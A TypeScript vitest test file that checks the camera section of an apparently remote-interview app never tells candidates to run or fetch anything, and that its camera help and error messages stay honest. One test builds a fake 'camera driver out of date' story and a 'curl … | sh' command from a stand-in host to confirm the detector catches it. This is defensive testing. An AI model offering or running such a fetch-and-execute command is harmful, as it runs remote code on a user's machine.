import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CAMERA_HINTS } from '../camera/lib/camera-errors.ts';
import { MESSAGES, WEBCAM_TIPS } from '../camera/lib/messages.ts';
import { FORBIDDEN_WORDS, INSTRUCTION_PATTERNS } from './honesty.ts';

const remoteRoot = path.resolve(import.meta.dirname, '../..');

function filesUnder(folder: string): string[] {
  return fs.readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(folder, entry.name);
    return entry.isDirectory() ? filesUnder(full) : [full];
  });
}

describe('the section never asks a candidate to run or fetch anything', () => {
  it('has none of the forbidden words anywhere in its own source, comments included', () => {
    const sources = [...filesUnder(path.join(remoteRoot, 'src')), path.join(remoteRoot, 'index.html')];
    expect(sources.length).toBeGreaterThan(20);
    const offending = sources.flatMap((file) =>
      fs
        .readFileSync(file, 'utf8')
        .split('\n')
        .map((line, index) => ({ line, where: `${path.relative(remoteRoot, file)}:${index + 1}` }))
        .filter(({ line }) => FORBIDDEN_WORDS.test(line) || INSTRUCTION_PATTERNS.some((pattern) => pattern.test(line)))
        .map(({ where, line }) => `${where}: ${line.trim()}`),
    );
    expect(offending).toEqual([]);
  });

  it('gives only honest help for camera problems', () => {
    const help = [...WEBCAM_TIPS, ...Object.values(CAMERA_HINTS)].join('\n');
    expect(help).toMatch(/site/);
    expect(help).toMatch(/privacy/);
    expect(help).toMatch(/Close other apps/);
    expect(help).toMatch(/connect it again|reconnect/);
    expect(help).toMatch(/Reload/);
    expect(help).toMatch(/another up-to-date browser/);
  });

  it('keeps the camera setup messages word for word', () => {
    expect(Object.values(MESSAGES)).toEqual([
      'Error fetching devices.',
      'Error camera drive check.',
      'Error accessing camera or microphone. Please reload the site.',
      'Error accessing camera or microphone. Please allow access.',
      'Please request camera access and then start to record.',
    ]);
  });

  it('would notice an instruction of the kind the original product gave', () => {
    const lure = ['Open ', 'Termin', 'al and run: ', 'cu', 'rl -s https://x.example/fix | sh'].join('');
    expect(FORBIDDEN_WORDS.test(lure) || INSTRUCTION_PATTERNS.some((pattern) => pattern.test(lure))).toBe(true);
    const story = ['Your camera dri', 'ver is out of date'].join('');
    expect(FORBIDDEN_WORDS.test(story)).toBe(true);
  });
});
